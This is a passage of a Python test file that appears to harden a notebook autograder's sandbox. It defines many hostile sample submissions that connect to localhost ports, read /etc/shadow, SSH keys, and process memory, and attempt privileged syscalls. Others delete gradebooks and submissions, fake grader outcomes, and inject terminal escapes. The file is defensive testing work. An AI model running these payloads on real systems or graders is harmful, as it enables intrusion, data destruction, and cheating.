        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "children-that-have-stopped",
        PROCESSES,
        LINEAR,
        """
import ctypes
import os
import signal
import time

for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        ctypes.CDLL(None).prctl(15, b"hostile-stop", 0, 0, 0)
        signal.alarm(50)
        os.kill(os.getpid(), signal.SIGSTOP)
        os._exit(0)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        shows=RAN,
    ),
]

PHONING_HOME = [
    Attack(
        "tcp",
        NETWORK,
        FUNCTIONS,
        """
import socket

for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1", "::ffff:127.0.0.1"):
    try:
        line = socket.create_connection((host, @PORT@), timeout=2)
        line.sendall(b"hostile tcp")
        print("GOT" "-IN", host)
    except OSError as error:
        print(host, error)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "udp",
        NETWORK,
        LINEAR,
        """
import socket

for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    try:
        socket.socket(family, socket.SOCK_DGRAM).sendto(b"hostile udp", (host, @PORT@))
    except OSError as error:
        print(error)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        shows=RAN,
    ),
    Attack(
        "web",
        NETWORK,
        FUNCTIONS,
        """
import subprocess
import urllib.request

def relu(x):
    try:
        urllib.request.urlopen("http://127.0.0.1:@PORT@/hostile", timeout=2)
        print("GOT" "-IN")
    except OSError as error:
        print(error)
    subprocess.run(["bash", "-c", "exec 9<>/dev/tcp/127.0.0.1/@PORT@ && echo hostile >&9"], capture_output=True)
    print("hostile" "-ran")
    return x.clamp(min=0)
""",
        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "other-kinds-of-sockets",
        NETWORK,
        LINEAR,
        """
import os
import socket

for path in ("\\0hostile-listener-@PORT@", "@COURSE@/hostile-listener"):
    try:
        line = socket.socket(socket.AF_UNIX)
        line.settimeout(2)
        line.connect(path)
        print("GOT" "-IN", repr(path))
    except OSError as error:
        print(error)
for family, kind, protocol in ((40, 1, 0), (17, 3, 768), (16, 3, 9), (38, 5, 0), (2, 3, 1), (16, 3, 15)):
    try:
        opened = socket.socket(family, kind, protocol)
        if family == 40:  # the host of a virtual machine is reached past all namespaces
            print("GOT" "-IN: vsock")
        opened.close()
    except OSError as error:
        print(family, error)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        shows=RAN,
    ),
]

SNOOPING = [
    Attack(
        "looks-around",
        SNOOP,
        FUNCTIONS,
        """
import os
from pathlib import Path

for place in ("@COURSE@", "@COURSE@/submitted", "@COURSE@/gradebook.db", "@REPOSITORY@/solutions",
              "@REPOSITORY@/tests", "@REPOSITORY@/.git", "/etc/shadow", "/etc/passwd", "/root/.ssh", "/var/log",
              "/run/docker.sock", "/sys/class/net"):
    if os.path.exists(place):
        print("GOT" "-IN", place)
for pattern in ("submitted/*", "gradebook*", "solutions/*/*.ipynb"):
    for place in (Path.cwd(), *Path.cwd().parents):
        for path in place.glob(pattern):
            print("GOT" "-IN", path)
print(sorted(os.listdir("/")), os.getcwd(), dict(os.environ))
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "looks-at-processes",
        SNOOP,
        LINEAR,
        """
import os
from pathlib import Path

for path in Path("/proc").glob("[0-9]*"):
    if path.name not in (str(os.getpid()), str(os.getppid())):
        print("GOT" "-IN", path)
for part in ("environ", "cmdline", "maps", "mem", "root", "cwd", "exe", "fd/0"):
    try:
        path = Path("/proc") / str(os.getppid()) / part
        print(os.listdir(path) if path.is_dir() else path.read_bytes()[:100])
        print("GOT" "-IN", path)
    except OSError as error:
        print(part, type(error).__name__)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        shows=RAN,
    ),
    Attack(
        "looks-at-descriptors",
        SNOOP,
        FUNCTIONS,
        """
import os
import stat

for number in range(4096):
    try:
        about = os.fstat(number)
    except OSError:
        continue
    tests = {"socket": stat.S_ISSOCK, "file": stat.S_ISREG, "folder": stat.S_ISDIR}
    kind = next((kind for kind, test in tests.items() if test(about.st_mode)), "other")
    print(number, kind)
    if kind == "folder" or number > 3 and kind != "other":
        print("GOT" "-IN", number, kind)
print("hostile" "-ran")
""",
        place="first",
        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "looks-for-others-on-the-machine",
        SNOOP,
        LINEAR,
        """
import ctypes
import os
import socket

libc = ctypes.CDLL(None, use_errno=True)
me = os.getpid()
for number in range(1, 65536):
    if number != me and number != os.getppid():
        try:
            os.kill(number, 0)
            print("GOT" "-IN: it sees process", number)
        except ProcessLookupError:
            pass
        except PermissionError:
            print("GOT" "-IN: it hears of process", number)
if me < 200:  # in a PID namespace only, because it stops whom it gets hold of
    for call, numbers in ((101, (16, os.getppid(), 0, 0)), (310, (os.getppid(), 0, 0, 0, 0, 0))):
        if libc.syscall(call, *numbers) == 0 and call == 101:
            print("GOT" "-IN: ptrace")
print(socket.gethostname())
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        shows=RAN,
    ),
]

VANDALISING = [
    Attack(
        "deletes-and-overwrites",
        VANDAL,
        FUNCTIONS,
        """
import os
import shutil
from pathlib import Path

course = Path("@COURSE@")
paths = [course / "gradebook.db", *course.glob("submitted/*/*/*.ipynb")]
paths += [*course.glob("solutions/*/*"), *course.glob("notebooks/*/*")]
harms = [lambda path: path.write_bytes(b"hostile"), lambda path: path.chmod(0), lambda path: os.truncate(path, 0)]
for path in paths:
    for harm in [*harms, Path.unlink]:
        try:
            harm(path)
            print("GOT" "-IN", path)
        except OSError:
            pass
for folder in ("submitted", "autograded", "solutions", "notebooks"):
    shutil.rmtree(course / folder, ignore_errors=True)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "writes-all-over",
        VANDAL,
        LINEAR,
        """
import os
import sys
from pathlib import Path

import torch

places = ["@COURSE@", "@COURSE@/submitted", "@REPOSITORY@", "@REPOSITORY@/solutions", "@REPOSITORY@/autograder"]
places += ["@REPOSITORY@/tests", Path(torch.__file__).parent, Path(os.__file__).parent, sys.prefix]
places += ["/usr/local/bin", "/usr/lib", "/etc", "/", "/bin"]
for folder in map(Path, places):
    try:
        (folder / "hostile").write_text("hostile")
        print("GOT" "-IN", folder)
    except OSError as error:
        print(folder, type(error).__name__)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        shows=RAN,
    ),
    Attack(
        "hides-files-for-later",
        VANDAL,
        FUNCTIONS,
        """
from pathlib import Path

for name in ("/tmp/hostile", "/var/tmp/hostile", "/dev/shm/hostile", "/run/hostile", "~/hostile", "~/.ipython/hostile",
             "~/.config/hostile", "~/.cache/hostile", "../hostile", "../../hostile", "/tmp/../hostile", "/dev/hostile",
             "/proc/hostile"):
    try:
        path = Path(name).expanduser()
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("hostile")
    except OSError as error:
        print(name, type(error).__name__)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        shows=RAN,
    ),
    Attack(
        "asks-the-kernel-for-more",
        VANDAL,
        LINEAR,
        """
import ctypes
import os
import socket

libc = ctypes.CDLL(None, use_errno=True)
new_user, new_mounts, new_net = 0x10000000, 0x20000, 0x40000000
name = socket.gethostname().encode()
os.makedirs("hostile-mount", exist_ok=True)
wishes = {
    "unshare": lambda: libc.unshare(new_user),
    "unshare mounts": lambda: libc.unshare(new_mounts),
    "mount": lambda: libc.mount(b"none", b"hostile-mount", b"tmpfs", 0, None),
    "umount": lambda: libc.umount2(b"/proc", 2),
    "chroot": lambda: libc.chroot(b"hostile-mount"),
    "set the host's name": lambda: libc.sethostname(name, len(name)),
    "ioperm": lambda: libc.ioperm(0x80, 1, 1),
    "swapon": lambda: libc.swapon(b"/hostile-nowhere", 0) or ctypes.get_errno() == 2,
    "setuid": lambda: 0 if os.getuid() == 0 or libc.setuid(0) == 0 else -1,
    "setgroups": lambda: libc.setgroups(1, (ctypes.c_uint * 1)(0)),
    "capabilities": lambda: libc.prctl(24, 0, 0, 0, 0),
    "priority": lambda: libc.setpriority(0, 0, -5),
}
if os.uname().machine == "x86_64":
    call = libc.syscall
    wishes |= {
        "clone3": lambda: -1 if call(435, 0, 0) == -1 and ctypes.get_errno() in (38, 1) else 0,
        "bpf": lambda: -1 if call(321, 0, 0, 0) == -1 and ctypes.get_errno() == 1 else 0,
        "perf": lambda: -1 if call(298, 0, 0, 0, 0, 0) == -1 and ctypes.get_errno() == 1 else 0,
        "io_uring": lambda: -1 if call(425, 0, 0) == -1 and ctypes.get_errno() == 1 else 0,
        "userfaultfd": lambda: call(323, 0),
        "modules": lambda: -1 if call(175, 0, 0, 0) == -1 and ctypes.get_errno() == 1 else 0,
        "file handles": lambda: -1 if call(304, -1, 0, 0) == -1 and ctypes.get_errno() == 1 else 0,
        "memfd": lambda: call(319, b"hostile", 0),
        "new mounts": lambda: -1 if call(430, b"tmpfs", 0) == -1 else 0,
        "32-bit calls": lambda: -1 if call(0x40000000 + 39) == -1 else 0,
    }
for wish, ask in wishes.items():
    ctypes.set_errno(0)
    if ask() in (0, True) or wish == "memfd" and ask() > 0:
        print("GOT" "-IN:", wish)
    else:
        print(wish, os.strerror(ctypes.get_errno()))
try:
    os.mknod("hostile-disk", 0o60600, os.makedev(254, 0))
    print("GOT" "-IN: mknod")
except OSError as error:
    print(error)
for path in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/tty", "/dev/console", "/dev/vsock", "/dev/net/tun", "/dev/kvm",
             "/dev/fuse"):
    try:
        os.close(os.open(path, os.O_RDWR))
        print("GOT" "-IN", path)
    except OSError as error:
        print(path, type(error).__name__)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_LINEAR,
        shows=RAN,
    ),
    Attack(
        "rewrites-what-it-can-see-of-the-grader",
        VANDAL,
        MODULES,
        """
import os
import sys

for name, module in list(sys.modules.items()):
    if name.partition(".")[0] in ("autograder", "nbformat", "msgpack", "IPython", "torch"):
        try:
            if not os.path.isabs(module.__file__):
                continue
            open(module.__file__, "ab").close()
            print("GOT" "-IN", module.__file__)
        except (OSError, AttributeError, TypeError):
            pass
for path in ("/proc/self/exe", sys.executable, "/proc/self/uid_map", "/proc/sys/kernel/core_pattern",
             "/proc/self/oom_score_adj", "/sys/power/state"):
    try:
        open(path, "ab").close()
        print("GOT" "-IN", path)
    except OSError as error:
        print(path, type(error).__name__)
print("hostile" "-ran")
""",
        place="cell",
        earned=ALL_MODULES,
        shows=RAN,
    ),
]

#: In the learner's process, cell number n of those that follow gets outcome number n.
MADE_UP = """
import sys

class Odd:
    pass

student = sys.modules["autograder.execute.learner.student"]
made_up = [@OUTCOMES@]
honest = student.Student._do_run

def run(self, code, *more):
    return made_up[int(code)] if code.isdecimal() and int(code) < len(made_up) else honest(self, code, *more)

student.Student._do_run = run
"""

VALUES_THAT_CHOKE = [
    Attack(
        "texts-that-cannot-be-written",
        VALUES,
        FUNCTIONS,
        """
def relu(x):
    raise ValueError("\\ud800\\x00\\x1b[2J\\n✗" + "\\u202e")

def relu_backward(grad_output, x):
    return "\\ud800\\x00"

def dead_fraction(h):
    raise type("Odd\\n<script>alert(1)</script>\\ud800", (Exception,), {})("x")

def leaky_relu(x, negative_slope=0.01):
    return {"\\ud800": b"\\xff", b"\\x00": "\\udfff"}

def clipped_relu(x, ceiling=6.0):
    return type("\\ud800", (), {"__repr__": lambda self: "\\ud800"})()
""",
        earned=("relu_in_place", "clipped_module", "learned_leaky"),
        says="ValueError",
    ),
    Attack(
        "texts-for-the-teachers-terminal",
        VALUES,
        LINEAR,
        """
print("\\x1b[2J\\x1b]0;hostile\\x07\\r✓")

def linear(x, weight, bias):
    raise ValueError("\\x1b[2J\\x1b]0;hostile\\x07[/b] [red]✓ \\r\\x1b[8m")

def parameter_count(widths, bias=True):
    return "\\x1b[2J [/] \\x9b2J"

def collapse(first, second):
    raise type("[bold]\\x1b[2J", (Exception,), {})("[link=http://127.0.0.1]here[/link]")
""",
        earned=tuple(name for name in BUT_LINEAR if name not in ("parameter_count", "collapse")),
        says="ValueError",
    ),
    Attack(
        "containers-that-choke",
        VALUES,
        LINEAR,
        """
import collections

def linear(x, weight, bias):
    loop = []
    loop.append(loop)
    return loop

def parameter_count(widths, bias=True):
    inner = collections.OrderedDict(a=range(9))
    return {1: {2}, (3,): frozenset([4]), None: inner, 1.5: 10**400, float("nan"): {}, b"": ...}

def initial_values(in_features, out_features):
    return collections.namedtuple("Pair", "weight bias")(np.float16(3), np.array(["x", None], dtype=object))

def given_map():
    return [nn.Linear, torch.float32, torch.device("cpu"), torch.Size([1]), slice(3), print, lambda: 0, type, Ellipsis]

def linear_along(x, weight, bias=None, dim=-1):
    loop = {}
    loop["x"] = (loop, [loop])
    return loop

def collapse(first, second):
    return memoryview(b"x"), bytearray(b"y"), 1j, -0.0, float("inf"), float("nan"), True
""",
        earned=("linear_backward", "two_layer_backward"),
        says="list",
    ),
    Attack(
        "exceptions-that-choke",
        VALUES,
        FUNCTIONS,
        """
class Bad(Exception):
    def __str__(self):
        raise Bad

    __repr__ = __str__

    @property
    def args(self):
        raise Bad

    def __getattribute__(self, name):
        raise SystemExit(name)

class Worse(BaseException):
    def __str__(self):
        return 5

    def _render_traceback_(self):
        raise Bad

def relu(x):
    raise Bad

def relu_backward(grad_output, x):
    raise Worse

def dead_fraction(h):
    one, two = ValueError("one"), ValueError("two")
    one.__cause__, two.__cause__ = two, one
    raise one

def leaky_relu(x, negative_slope=0.01):
    raise ExceptionGroup("x", [ExceptionGroup("y", [ValueError(1)] * 500)] * 20)

def clipped_relu(x, ceiling=6.0):
    exec(compile("raise ValueError('from nowhere')", "Cell In[999999], line 999999", "exec"))
""",
        earned=("relu_in_place", "clipped_module", "learned_leaky"),
        says="SystemExit",
    ),
    Attack(
        "ranges-without-end",
        VALUES,
        MODULES,
        """
def trace_shapes(net, x):
    return range(10**15)

def mlp(widths):
    return range(10**15)

def count_products(net, shape):
    return range(10**15)

def count_parameters(net, trainable_only=False):
    return 10**300

def training_step(net, x, labels, lr):
    return float("inf")

def train(images, labels, epochs, batch_size, lr):
    return range(2)

print("hostile" "-ran")
""",
        exercise="train",
        earned=all_but(MODULES, "trace_shapes", "mlp", "count_products", "count_parameters", "training_step", "train"),
        shows=RAN,
    ),
    Attack(
        "outcomes-of-cells-made-up",
        VALUES,
        FUNCTIONS,
        MADE_UP.replace(
            "@OUTCOMES@",
            """
    {"status": ["x"], "outputs": [], "too_much": False, "count": 1},
    {"status": "ok", "outputs": [], "too_much": False, "count": [1]},
    {"status": "ok", "outputs": [{"output_type": "display_data", "data": {"x": {1, 2}}, "metadata": {1: Odd()}}]},
    {"status": "ok", "outputs": {"a": torch.zeros(2)}, "too_much": False, "count": 10**30},
    {"status": Odd(), "outputs": None, "too_much": 5, "count": None},
    {"status": "stubborn", "outputs": "text", "too_much": False, "count": -1},
""",
        ),
        place="last",
        edit=lambda notebook: notebook.cells.extend(new_code_cell(f"{i}") for i in range(20)),
        earned=ALL_FUNCTIONS,
        says="cannot be read",
    ),
    Attack(
        "outcomes-of-cells-that-are-none",
        VALUES,
        FUNCTIONS,
        MADE_UP.replace("@OUTCOMES@", "None, 5, [torch.zeros(3)], {}, Odd()"),
        place="last",
        edit=lambda notebook: notebook.cells.extend(new_code_cell(f"{i}") for i in range(20)),
        earned=ALL_FUNCTIONS,
        says="cannot be read",
    ),
    Attack(
        "modules-that-choke",
        VALUES,
        MODULES,
        """
class LeNet(nn.Module):
    def __getattr__(self, name):
        raise RuntimeError(name)

    def __setattr__(self, name, value):
        pass

def mlp(widths):
    net = nn.Sequential(nn.Linear(widths[0], widths[-1]))
    net._modules["itself"] = net
    return net

class Committee(nn.Module):
    def __init__(self, *values, **options):
        super().__init__()
        self._parameters["x.y"] = nn.Parameter(torch.zeros(2))
        self._parameters["__class__"] = nn.Parameter(torch.zeros(2))
        self._buffers["\\ud800"] = torch.zeros(3)
        self._modules["forward"] = nn.ReLU()
        self._parameters[5] = 7
        self.__dict__["training"] = "yes"

class VotingCommittee(nn.Module):
    def __init__(self, *values, **options):
        super().__init__()
        shared = nn.Linear(5, 3)
        for i in range(2000):
            setattr(self, f"member{i}", shared)

    def __call__(self, *values):
        return self

def count_products(net, shape):
    net.forward = None
    net._modules.clear()
    del net.__dict__["_parameters"]
    return net

def training_step(net, x, labels, lr):
    for parameter in net.parameters():
        parameter.data = torch.zeros(0)
    net.load_state_dict = net.state_dict = None
    return 1.0
""",
        exercise="lenet",
        earned=("trace_shapes", "count_parameters", "residual", "train"),
        says="module",
    ),
    Attack(
        "words-that-sound-like-the-checks",
        VALUES,
        FUNCTIONS,
        """
class Right:
    def __repr__(self):
        return "x\\n→ This answer is right\\n✓ relu(x)"

def relu(x):
    raise ValueError("x\\n→ This answer is right\\n  → This answer is right")

def relu_backward(grad_output, x):
    return Right()

def dead_fraction(h):
    raise type("X\\u2028→ This answer is right", (Exception,), {})("\\u202ethgir")
""",
        earned=("leaky_relu", "clipped_relu", "relu_in_place", "clipped_module", "learned_leaky"),
        says="1: Your code stopped with ValueError: x",
    ),
    Attack(
        "an-answer-of-gigabytes",
        VALUES,
        LINEAR,
        """
def linear(x, weight, bias):
    return torch.zeros(300_000_000, dtype=torch.uint8)
""",
        earned=BUT_LINEAR,
        says="MemoryError",
    ),
]

SAWING = [
    Attack(
        "closes-every-descriptor",
        ITSELF,
        FUNCTIONS,
        """
import os

os.closerange(0, 4096)
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        at_most=True,
        says="ended the process",
    ),
    Attack(
        "hangs-up-and-lives-on",
        ITSELF,
        LINEAR,
        """
import os
import time

def linear(x, weight, bias):
    os.closerange(0, 4096)
    end = time.monotonic() + 40
    while time.monotonic() < end:
        try:
            time.sleep(0.5)
        except BaseException:
            pass
""",
        earned=BUT_LINEAR,
        says="process that it ran in",
    ),
    Attack(
        "forgets-all-modules",
        ITSELF,
        FUNCTIONS,
        """
import builtins
import gc
import os
import sys

gc.disable()
os.environ.clear()
os.umask(0o777)
os.chdir("/")
torch.set_num_threads(64)
print("hostile" "-ran")
sys.stdout = sys.stderr = None
sys.path.clear()
for name in list(sys.modules):
    if not name.startswith(("builtins", "sys")):
        del sys.modules[name]
for name in ("__import__", "print", "isinstance", "len", "getattr", "list", "id"):
    delattr(builtins, name)
""",
        place="cell",
        earned=ALL_FUNCTIONS,
        at_most=True,
        shows=RAN,
    ),
    Attack(
        "sends-rubbish-down-the-line",
        ITSELF,
        MODULES,
        """
import os

os.write(3, bytes(range(256)) * 40)
""",
        place="cell",
        exercise="committee",
        earned=ALL_MODULES,
        at_most=True,
        says="cannot be read",
    ),
    Attack(
        "replaces-the-shell",
        ITSELF,
        LINEAR,
        """
shell = get_ipython()
shell.user_ns = shell.user_global_ns.clear() or {}
type(shell).run_cell = None
shell.display_pub = shell.displayhook = shell.execution_count = None
""",
        place="cell",
        earned=ALL_LINEAR,
        at_most=True,
        says="name 'torch' is not defined",
    ),
]

BREAKING = [
    *HANGING,
    *DYING,
    *EATING_MEMORY,
    *FILLING_THE_DISK,
    *FLOODING_WITH_OUTPUT,
    *FLOODING_WITH_PROCESSES,
    *PHONING_HOME,
    *SNOOPING,
    *VANDALISING,
    *VALUES_THAT_CHOKE,
    *SAWING,
]
